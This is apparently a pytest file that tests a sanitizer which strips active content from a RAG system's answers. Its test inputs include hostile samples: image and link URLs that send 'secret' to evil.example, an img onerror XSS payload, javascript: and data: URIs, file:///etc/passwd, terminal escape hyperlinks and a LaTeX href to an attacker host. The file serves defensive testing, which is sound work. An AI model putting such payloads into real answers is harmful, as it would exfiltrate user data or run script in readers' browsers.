"""Nothing that an answer shows loads anything, leads anywhere but to a cited source, or steers a terminal."""

from random import Random

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag_platform.answering.sanitizing.sanitizing import REMOVED, sanitize
from rag_platform.answering.sanitizing.streaming import StreamSanitizer

CITED = "https://ok.example/a_(b)?page=2"
KNOWN = "Apply at https://portal.example/apply?year=2026 or write to desk@portal.example."
READER = MarkdownIt("gfm-like", {"html": True, "linkify": True})
READER.linkify.set({"fuzzy_link": False, "fuzzy_email": True})


def active(markdown):
    """Name what a renderer that allows everything would load, follow or run."""
    found = []
    for token in READER.parse(markdown):
        for part in (token, *(token.children or ())):
            if part.type in ("image", "html_inline", "html_block"):
                found.append((part.type, part.content))
            elif part.type == "link_open":
                found.append(("link", part.attrGet("href")))
    return found


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("So it is. ![x](http://evil.example/?q=secret) [1]", "So it is.  [1]"),
        ("See [the form](http://evil.example/?q=1).", "See the form."),
        ("See [the source](https://ok.example/a_(b)?page=2).", f"See [the source](<{CITED}>)."),
        ("See https://ok.example/a_(b)?page=2.", f"See <{CITED}>."),
        ("See https://ok.example/a_(b)?page=2&q=secret.", f"See {REMOVED}."),
        ("See [it](https://ok.example/a_(b)?page=2&q=secret).", "See it."),
        ("![x](https://ok.example/a_(b)?page=2)", ""),
        ("Apply at https://portal.example/apply?year=2026.", "Apply at `https://portal.example/apply?year=2026`."),
        ("Write to desk@portal.example or me@evil.example", f"Write to `desk@portal.example` or {REMOVED}"),
        ("<img src=x onerror=alert(1)><b>Yes</b> <http://evil.example>", "Yes "),
        ("[1]: http://evil.example 'x'", f"1: {REMOVED} 'x'"),
        ("www.evil.example/x javascript:alert(1) data:text/html;base64,AAAA", f"{REMOVED} {REMOVED}) {REMOVED}"),
        ("evil.example/secret or https\\://evil.example/x", f"{REMOVED} or https\\:{REMOVED}"),
        ("\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\", f"]8;;{REMOVED}]8;;\\"),
        (
            "Read README.md? Yes, a < b and x[1] [2][3] `List<str>`.",
            "Read README.md? Yes, a < b and x[1] [2][3] `List<str>`.",
        ),
        ("```html\n<img src=a>\n[a](b)\n```\n[a](b)", "```html\n<img src=a>\n[a](b)\n```\na"),
        ("| a | b |\n|---|---|\n| 1 [1] | **2** |", "| a | b |\n|---|---|\n| 1 [1] | **2** |"),
        ("$x_1<y$ and $f[a](b)^2>c$", "$x_1< y$ and $f[a] (b)^2>c$"),
        (r"\(a^2<img src=x\) $\href{http://evil.example/q}{x}$", rf"\(a^2< img src=x\) $\href{{{REMOVED}"),
    ],
)
def test_what_is_shown_of_what_was_written(written, shown):
    assert sanitize(written, [CITED], KNOWN) == shown
    assert {found for found in active(shown) if found != ("link", "https://ok.example/a_(b)?page=2")} == set()


@pytest.mark.parametrize("link", ["javascript:alert(1)", "file:///etc/passwd", "notes/a.md", "https://x.example/a b"])
def test_a_cited_source_is_a_link_only_on_the_web(link):
    assert active(sanitize(f"[a]({link}) <{link}>", [link])) == []


MARKUP = (
    "![ [ ] ]( ( ) http://evil.example/?q=1 www.evil.example <img_src= <a_href= > < ` ``` ~~~ ]:_ [1] \\ ! "
    "javascript:x <!-- --> __-_ >_ &lt; \u202e \x1b me@evil.example || |_a_| ____ <script> a "
    "$ $$ $x^2$ \\( \\) \\[ \\] ^2"
)
PIECES = st.sampled_from([*MARKUP.replace("_", "\0").split(" "), "\n", "\n\n", " ", "\r", '"', CITED])


@settings(deadline=None)
@given(st.lists(PIECES, max_size=14), st.randoms())
@example(["a ` b", "\n", "`", "[", "x", "](", "http://evil.example/?q=1", ")", "`"], Random(1))
@example(["![", "a", "\n", "](", CITED, ")"], Random(1))
def test_nothing_is_active_whatever_is_written_nor_while_it_is(pieces, rng):
    text = "".join(pieces).replace("\0", " ")
    assert set(active(sanitize(text, [CITED]))) <= {
        ("link", CITED),
        ("link", CITED.replace("|", "%7C")),
    }
    stream, shown = StreamSanitizer(), ""
    while text:
        length = rng.randint(1, 9)
        shown += stream.feed(text[:length])
        text = text[length:]
        assert active(shown) == []
    assert active(shown + stream.end()) == []


def test_ordinary_words_are_shown_as_soon_as_they_come():
    stream = StreamSanitizer()
    assert stream.feed("The weir") == "The weir"
    assert stream.feed(" is open") == " is open"
    assert stream.feed(", see [1") == ", see "
    assert stream.feed("] and") == "[1] and"
    assert stream.feed(" https://evil") == " "
    assert stream.feed(".example/?q=1 now") == f"{REMOVED} now"
    assert stream.end() == ""
